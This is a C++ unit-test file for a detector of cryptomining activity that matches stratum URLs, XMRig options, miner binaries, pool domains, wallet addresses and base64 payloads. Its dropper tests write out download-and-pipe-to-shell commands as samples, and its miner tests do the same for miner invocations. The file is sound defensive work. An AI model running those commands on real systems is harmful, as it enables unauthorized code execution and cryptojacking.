#include "policy/indicators.h"

#include <gtest/gtest.h>

#include <algorithm>
#include <cctype>
#include <set>

namespace orderguard::policy {
namespace {

using Finder = void (Indicators::*)(const TokenLine&, std::vector<IndicatorHit>*) const;

const Indicators& ind() { return Indicators::built_in(); }

std::vector<IndicatorHit> find(Finder f, std::vector<std::string> tokens) {
  std::vector<IndicatorHit> hits;
  (ind().*f)(TokenLine(std::move(tokens)), &hits);
  return hits;
}

std::vector<IndicatorHit> find_in(Finder f, std::string text) { return find(f, {std::move(text)}); }

std::string encode(std::string_view in) {
  static constexpr char kAlphabet[] =
      "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
  std::string out;
  size_t i = 0;
  for (; i + 2 < in.size(); i += 3) {
    uint32_t n = (uint8_t(in[i]) << 16) | (uint8_t(in[i + 1]) << 8) | uint8_t(in[i + 2]);
    for (int s = 18; s >= 0; s -= 6) out += kAlphabet[(n >> s) & 63];
  }
  if (size_t rest = in.size() - i; rest > 0) {
    uint32_t n = uint8_t(in[i]) << 16;
    if (rest == 2) n |= uint8_t(in[i + 1]) << 8;
    out += kAlphabet[(n >> 18) & 63];
    out += kAlphabet[(n >> 12) & 63];
    out += rest == 2 ? kAlphabet[(n >> 6) & 63] : '=';
    out += '=';
  }
  return out;
}

constexpr std::string_view kWallet =
    "48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUi"
    "coD";

TEST(TokenLineTest, OffsetsMapBackToTokens) {
  TokenLine line({"-o", "stratum+tcp://pool:3333", "", "--x"});
  EXPECT_EQ(line.text(), "-o stratum+tcp://pool:3333  --x");
  EXPECT_EQ(line.token_at(0), 0u);
  EXPECT_EQ(line.token_at(2), 0u);  // the separator belongs to the token before it
  EXPECT_EQ(line.token_at(3), 1u);
  EXPECT_EQ(line.token_at(line.text().size() - 1), 3u);
}

TEST(TokenLineTest, WordsFollowShellSyntax) {
  TokenLine line({"sh", "-c", "cd /tmp;./x|sh && echo 'a b' \"$(curl y)\""});
  std::vector<std::string> words;
  for (const auto& w : line.words()) words.emplace_back(line.word(w));
  EXPECT_EQ(words, (std::vector<std::string>{"sh", "-c", "cd", "/tmp", "./x", "sh", "echo", "a",
                                             "b", "$", "curl", "y"}));
  EXPECT_EQ(line.words()[2].token, 2u);
}

TEST(StratumTest, EverySchemeAndCase) {
  for (std::string s : {"stratum+tcp://pool.x:3333", "stratum+ssl://p:443", "stratum+tls://p:1",
                        "stratum2+tcp://p:1", "stratum+udp://p:1", "stratum://p:1",
                        "STRATUM+TCP://P:1", "url=stratum+tcp://p:1"}) {
    auto hits = find_in(&Indicators::find_stratum_urls, s);
    ASSERT_EQ(hits.size(), 1u) << s;
    EXPECT_NE(hits[0].message.find("stratum"), std::string::npos);
  }
  for (std::string s : {"stratum", "stratumxtcp://p", "customstratum+tcp://p", "stratum+tcp:/p"}) {
    EXPECT_TRUE(find_in(&Indicators::find_stratum_urls, s).empty()) << s;
  }
}

TEST(StratumTest, HitNamesTheTokenItStartsIn) {
  auto hits = find(&Indicators::find_stratum_urls, {"./agent", "-o", "stratum+tcp://p:3333"});
  ASSERT_EQ(hits.size(), 1u);
  EXPECT_EQ(hits[0].token, 2u);
  EXPECT_EQ(hits[0].evidence, "stratum+tcp://p:3333");
}

TEST(MinerFlagTest, XmrigOptions) {
  for (std::vector<std::string> argv :
       std::vector<std::vector<std::string>>{{"--donate-level=1"},
                                             {"--donate-level", "1"},
                                             {"--cpu-priority", "0"},
                                             {"--nicehash"},
                                             {"--rig-id", "w1"},
                                             {"--max-cpu-usage=50"},
                                             {"--randomx-1gb-pages"},
                                             {"OPTS=--donate-level=0"},
                                             {"{\"donate-level\": 1, \"pools\": []}"},
                                             {"sh", "-c", "/sbin/modprobe msr allow_writes=on"}}) {
    EXPECT_FALSE(find(&Indicators::find_miner_flags, argv).empty()) << argv.back();
  }
}

TEST(MinerFlagTest, TwoOptionsInARowAreBothFound) {
  auto hits = find(&Indicators::find_miner_flags, {"x", "--nicehash", "--rig-id", "r"});
  ASSERT_EQ(hits.size(), 2u);
  EXPECT_EQ(hits[0].token, 1u);
  EXPECT_EQ(hits[1].token, 2u);
}

// The matchers skip a text on a cheap test of its characters first (TokenLine::char_classes,
// the letter after "--"); case and position must not get past them.
TEST(MinerFlagTest, OptionsInAnyCaseAfterOtherDoubleDashFlags) {
  for (std::vector<std::string> argv :
       std::vector<std::vector<std::string>>{{"--DONATE-LEVEL=1"},
                                             {"--listen=:8080", "--log-format=json", "--Nicehash"},
                                             {"app --verbose --Cpu-Priority 5"},
                                             {"-x", "--HUGE-PAGES-JIT"},
                                             {"sh", "-c", "MODPROBE MSR"}}) {
    EXPECT_FALSE(find(&Indicators::find_miner_flags, argv).empty()) << argv.back();
  }
}

TEST(MinerFlagTest, FlagsThatAreMinerFlagsBecauseOfTheirValue) {
  for (std::vector<std::string> argv :
       std::vector<std::vector<std::string>>{{"-a", "rx/0"},
                                             {"--algo=cn/r"},
                                             {"--algo", "kawpow"},
                                             {"-a", "cryptonight"},
                                             {"--coin", "monero"},
                                             {"--coin=XMR"},
                                             {"-o", "pool.minexmr.com:4444"},
                                             {"-o", "1.2.3.4:3333", "-u", "w"},
                                             {"--url=tcp://10.0.0.1:5555", "--user", "w"}}) {
    auto hits = find(&Indicators::find_miner_flags, argv);
    EXPECT_EQ(hits.size(), 1u) << argv[0];
    if (!hits.empty()) {
      EXPECT_EQ(hits[0].token, 0u);
    }
  }
}

TEST(MinerFlagTest, OrdinaryFlagsAreNotMinerFlags) {
  for (std::vector<std::string> argv :
       std::vector<std::vector<std::string>>{{"ls", "-a", "/tmp"},
                                             {"curl", "-o", "out.tgz", "-u", "a:b", "https://x"},
                                             {"gcc", "-o", "app", "main.c"},
                                             {"ssh", "-o", "StrictHostKeyChecking=no", "h"},
                                             {"hasher", "--algo", "sha256"},
                                             {"x", "-o", "1.2.3.4:3333"},
                                             {"x", "--donate-levels"},
                                             {"nginx", "--port", "3333"},
                                             {"x", "--coin", "flip"}}) {
    EXPECT_TRUE(find(&Indicators::find_miner_flags, argv).empty()) << argv[0] << " " << argv[1];
  }
}

TEST(MinerBinaryTest, NamesAsAnyPathComponent) {
  for (std::string s : {"./xmrig", "/usr/bin/xmrig", "XMRig", "/tmp/kdevtmpfsi", "kinsing",
                        "SRBMiner-MULTI", "--config=/opt/xmrig/config.json", "xmr-stak-rx",
                        "https://github.com/x/y/releases/download/v6.21.0/"
                        "xmrig-6.21.0-linux-static-x64.tar.gz",
                        "cd /tmp && ./kworkerds &", "PATH=/opt/xmrig:/usr/bin"}) {
    auto hits = find_in(&Indicators::find_miner_binaries, s);
    EXPECT_EQ(hits.size(), 1u) << s;
  }
  for (std::string s : {"t-rex-runner", "xmrigger", "minerva", "claymore-game", "xmr", "gminers",
                        "/usr/share/doc", "nginx"}) {
    EXPECT_TRUE(find_in(&Indicators::find_miner_binaries, s).empty()) << s;
  }
}

// find_miner_binaries skips a line by its character classes first: every name must still
// get through, as a path component and in upper case.
TEST(MinerBinaryTest, EveryBuiltInNameIsFound) {
  for (const MinerBinary& b : builtin_miner_binaries()) {
    std::string upper(b.name);
    for (char& c : upper) c = static_cast<char>(std::toupper(static_cast<unsigned char>(c)));
    EXPECT_EQ(find_in(&Indicators::find_miner_binaries, "/opt/" + std::string(b.name)).size(), 1u)
        << b.name;
    EXPECT_EQ(find(&Indicators::find_miner_binaries, {"run", upper}).size(), 1u) << upper;
  }
}

TEST(MinerBinaryTest, NamesWithDigitsDashesAndCapitals) {
  for (std::string s : {"/opt/T-Rex", "KWORKERDS3", "/usr/local/bin/Xmr-Stak", "PWNRIG.sh"}) {
    EXPECT_EQ(find_in(&Indicators::find_miner_binaries, s).size(), 1u) << s;
  }
}

TEST(MinerBinaryTest, CommIsTruncatedToFifteenCharacters) {
  EXPECT_EQ(ind().miner_binary_from_comm("dero-miner-linu"), "dero-miner-linux-amd64");
  EXPECT_EQ(ind().miner_binary_from_comm("xmrig"), "xmrig");
  EXPECT_FALSE(ind().miner_binary_from_comm("dero-miner").has_value());
  EXPECT_FALSE(ind().miner_binary_from_comm("kworker/0:1").has_value());
}

TEST(PoolHostTest, FalcoHostsAndPoolSubdomains) {
  const DomainSet& pools = ind().pool_domains();
  for (std::string s : {"pool.supportxmr.com", "-o xmr-eu1.nanopool.org:14444",
                        "gulf.moneroocean.stream", "POOL.MINEXMR.COM", "rx.unmineable.com",
                        "donate.v2.xmrig.com:3333", "http://eth-eu1.nanopool.org/api"}) {
    std::vector<IndicatorHit> hits;
    ind().find_pool_hosts(TokenLine({s}), pools, &hits);
    EXPECT_EQ(hits.size(), 1u) << s;
  }
  for (std::string s : {"evilnanopool.org", "nanopool.org.example.com", "supportxmr.com.evil",
                        "backend.shop.svc", "xmrig.com"}) {
    std::vector<IndicatorHit> hits;
    ind().find_pool_hosts(TokenLine({s}), pools, &hits);
    EXPECT_TRUE(hits.empty()) << s;
  }
}

TEST(DropperTest, DownloadAndRun) {
  for (std::string s :
       {"curl -s http://203.0.113.7/x.sh | bash", "wget -q -O - http://195.3.146.118/spr.sh | sh",
        "wget -O- http://x/a | /bin/sh", "curl -fsSL https://x/i.sh | sudo bash -s -- --yes",
        "(curl -fsSL http://x/a||wget -q -O- http://x/a)|base64 -d|sh",
        "sh -c \"$(curl -fsSL http://x/install.sh)\"", "bash <(curl -s http://x/a)",
        "echo ZWNobyBoaQ== | base64 -d | bash", "chmod +x /tmp/kworkerds && /tmp/kworkerds",
        "chmod 777 /var/tmp/.x/run", "cd /tmp && wget http://x/m && chmod +x m && ./m",
        "curl -o /dev/shm/x http://x/m; sh /dev/shm/x", "CURL -s http://x/a.sh | SH",
        "Wget -q -O - http://x/a | Bash"}) {
    EXPECT_FALSE(find_in(&Indicators::find_droppers, s).empty()) << s;
  }
  for (std::string s :
       {"curl -s http://x -o /app/data.json", "wget http://x/file.tar.gz", "cat x | sha256sum",
        "curl x | jq .sha", "chmod +x /app/run.sh && /app/run.sh", "chmod 644 /tmp/x",
        "curl -fsS http://config/health && ./migrate up", "echo hi | shuf"}) {
    EXPECT_TRUE(find_in(&Indicators::find_droppers, s).empty()) << s;
  }
}

TEST(WalletTest, MoneroAddressShape) {
  std::string standard(kWallet);
  ASSERT_EQ(standard.size(), 95u);
  auto hits = find(&Indicators::find_wallet_addresses, {"-u", standard + ".worker1"});
  ASSERT_EQ(hits.size(), 1u);
  EXPECT_EQ(hits[0].token, 1u);
  EXPECT_EQ(hits[0].evidence, standard);
  std::string subaddress = "8" + standard.substr(1);
  EXPECT_EQ(find_in(&Indicators::find_wallet_addresses, "u=" + subaddress).size(), 1u);
  std::string integrated = standard + "Abcdefghijk";
  EXPECT_EQ(find_in(&Indicators::find_wallet_addresses, integrated).size(), 1u);

  EXPECT_TRUE(find_in(&Indicators::find_wallet_addresses, standard.substr(0, 94)).empty());
  EXPECT_TRUE(find_in(&Indicators::find_wallet_addresses, standard + "A").empty());
  EXPECT_TRUE(find_in(&Indicators::find_wallet_addresses, "5" + standard.substr(1)).empty());
  std::string with_zero = standard;
  with_zero[40] = '0';  // not base58
  EXPECT_TRUE(find_in(&Indicators::find_wallet_addresses, with_zero).empty());
}

TEST(MinerPortTest, OnlyEndpointsOnMinerPorts) {
  const PortSet& ports = ind().miner_ports();
  auto hits_for = [&](std::string s) {
    std::vector<IndicatorHit> hits;
    ind().find_miner_ports(TokenLine({s}), ports, &hits);
    return hits;
  };
  EXPECT_EQ(hits_for("-o 1.2.3.4:3333").size(), 1u);
  EXPECT_EQ(hits_for("tcp://proxy.mine.svc:14444/x").size(), 1u);
  EXPECT_TRUE(hits_for("--port 3333").empty());
  EXPECT_TRUE(hits_for("--listen=:3333").empty());
  EXPECT_TRUE(hits_for("0.0.0.0:3333").empty());
  EXPECT_TRUE(hits_for("localhost:4444").empty());
  EXPECT_TRUE(hits_for("http://backend:8080").empty());
  EXPECT_TRUE(hits_for("backend:33333").empty());
  // The port is the whole digit run after a colon, wherever it is in the line.
  EXPECT_EQ(hits_for("--listen=:8080 -o pool.example:3333").size(), 1u);
  EXPECT_EQ(hits_for("[2001:db8::1]:3333").size(), 1u);
  EXPECT_EQ(hits_for("x:1 a:03333").size(), 1u);
  EXPECT_TRUE(hits_for("backend:333333").empty());
  EXPECT_TRUE(hits_for("backend:3333x").empty());
}

TEST(Base64Test, AlignmentsMatchSigma) {
  // SigmaHQ proc_creation_lnx_crypto_mining.yml.
  std::vector<std::string> donate = base64_alignments("--donate-level=");
  EXPECT_EQ(std::set<std::string>(donate.begin(), donate.end()),
            (std::set<std::string>{"LS1kb25hdGUtbGV2ZWw9", "0tZG9uYXRlLWxldmVsP",
                                   "tLWRvbmF0ZS1sZXZlbD"}));
  std::vector<std::string> tcp = base64_alignments("stratum+tcp://");
  EXPECT_EQ(
      std::set<std::string>(tcp.begin(), tcp.end()),
      (std::set<std::string>{"c3RyYXR1bSt0Y3A6Ly", "N0cmF0dW0rdGNwOi8v", "zdHJhdHVtK3RjcDovL"}));
  std::vector<std::string> udp = base64_alignments("stratum+udp://");
  EXPECT_EQ(
      std::set<std::string>(udp.begin(), udp.end()),
      (std::set<std::string>{"c3RyYXR1bSt1ZHA6Ly", "N0cmF0dW0rdWRwOi8v", "zdHJhdHVtK3VkcDovL"}));
}

TEST(Base64Test, EveryAlignmentInsideALargerBlobIsFound) {
  for (std::string prefix : {"", "a", "ab", "abc", "abcd"}) {
    // Not a standalone word: glued to other base64 text so only the fragment search can see
    // it (the decoder sees a blob that does not start at the keyword).
    std::string blob = "QUJD" + encode(prefix + "x stratum+tcp://10.0.0.1:3333 y") + "QUJD";
    std::vector<IndicatorHit> hits;
    ind().find_base64(TokenLine({blob}), ind().pool_domains(), &hits);
    ASSERT_FALSE(hits.empty()) << prefix;
    EXPECT_NE(hits[0].message.find("stratum+"), std::string::npos) << hits[0].message;
  }
}

// The fragment search skips texts by their 4-byte prefixes first; every keyword at every
// alignment must still get through.
TEST(Base64Test, EveryKeywordAtEveryAlignmentIsFound) {
  for (std::string_view keyword : base64_keywords()) {
    for (std::string prefix : {"", "a", "ab"}) {
      std::string blob = "QUJD" + encode(prefix + std::string(keyword) + "zz") + "QUJD";
      std::vector<IndicatorHit> hits;
      ind().find_base64(TokenLine({"run", blob}), ind().pool_domains(), &hits);
      ASSERT_FALSE(hits.empty()) << keyword << " after " << prefix.size() << " bytes";
      EXPECT_NE(hits[0].message.find(keyword), std::string::npos) << hits[0].message;
      EXPECT_EQ(hits[0].token, 1u);
    }
  }
}

// The fragment prefilter looks at every third 4-byte window only; a fragment must be found
// wherever it starts in the text.
TEST(Base64Test, EveryKeywordAtEveryTextOffsetIsFound) {
  for (std::string_view keyword : base64_keywords()) {
    for (std::string prefix : {"", "a", "ab"}) {
      for (std::string lead : {"", "Q", "QU", "QUJ", "QUJDR"}) {
        std::string blob = lead + encode(prefix + std::string(keyword) + "zz");
        std::vector<IndicatorHit> hits;
        ind().find_base64(TokenLine({blob}), ind().pool_domains(), &hits);
        const std::string want = "base64 form of \"" + std::string(keyword) + "\"";
        EXPECT_TRUE(std::any_of(hits.begin(), hits.end(),
                                [&](const IndicatorHit& h) { return h.message == want; }))
            << keyword << " after " << prefix.size() << " bytes, " << lead.size() << " ahead";
      }
    }
  }
}

TEST(Base64Test, DecodesWholeWordsAndRunsTheOtherIndicators) {
  std::string script = "echo " + encode("./kworker -o pool.minexmr.com:4444") + " | base64 -d";
  std::vector<IndicatorHit> hits;
  ind().find_base64(TokenLine({"sh", "-c", script}), ind().pool_domains(), &hits);
  ASSERT_FALSE(hits.empty());
  EXPECT_EQ(hits[0].token, 2u);
  EXPECT_NE(hits[0].message.find("decodes to"), std::string::npos) << hits[0].message;
}

TEST(Base64Test, BenignBase64IsIgnored) {
  for (const std::string& s : std::vector<std::string>{
           encode("service=orders version=2.4.1"),
           "REDIS_PASSWORD=" + encode("c0rrect-horse-battery-staple"),
           "MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEAu1SU1LfVLPHCozMxH2Mo"}) {
    std::vector<IndicatorHit> hits;
    ind().find_base64(TokenLine({s}), ind().pool_domains(), &hits);
    EXPECT_TRUE(hits.empty()) << s;
  }
}

TEST(BuiltInImagesTest, FastMatchAgreesWithTheGlobs) {
  std::vector<ImagePattern> globs;
  for (const std::string& g : builtin_blocked_images()) {
    globs.push_back(std::move(ImagePattern::compile(g)).value());
  }
  for (std::string_view s :
       {"xmrig", "metal3d/xmrig:6", "ghcr.io/a/xmrig-proxy", "ghcr.io/a/xmrig_cuda", "t-rex",
        "ghcr.io/x/t-rex-runner", "gminer", "alpineos/x", "docker.io/kazutod/tene:ten",
        "kazutod/other", "nginx", "ghcr.io/xmrig/nginx", "1.2.3.4:5000/kinsing"}) {
    ImageRef ref = parse_image_ref(s).value();
    bool by_glob = std::any_of(globs.begin(), globs.end(),
                               [&](const ImagePattern& p) { return p.matches(ref); });
    EXPECT_EQ(ind().builtin_image_match(ref).has_value(), by_glob) << s;
  }
}

TEST(DomainSetTest, SubdomainsAtLabelBoundaries) {
  DomainSet set;
  set.add("Example.NET.");
  EXPECT_TRUE(set.matches("example.net"));
  EXPECT_TRUE(set.matches("a.b.example.net"));
  EXPECT_FALSE(set.matches("badexample.net"));
  EXPECT_FALSE(set.matches("example.net.evil"));
}

TEST(BuiltInListsTest, NonEmptyAndWellFormed) {
  EXPECT_GE(builtin_pool_domains().size(), 64u);
  EXPECT_GE(builtin_miner_binaries().size(), 21u);
  EXPECT_FALSE(known_dropper_files().empty());
  for (const DropperFile& f : known_dropper_files()) EXPECT_EQ(f.path.front(), '/');
  std::vector<std::string> images = builtin_blocked_images();
  EXPECT_NE(std::find(images.begin(), images.end(), "**/xmrig"), images.end());
  // 3333 is in, the common service ports Falco also lists are out.
  const PortSet& ports = ind().miner_ports();
  EXPECT_EQ(ports.count(3333), 1u);
  EXPECT_EQ(ports.count(8080), 0u);
}

}  // namespace
}  // namespace orderguard::policy
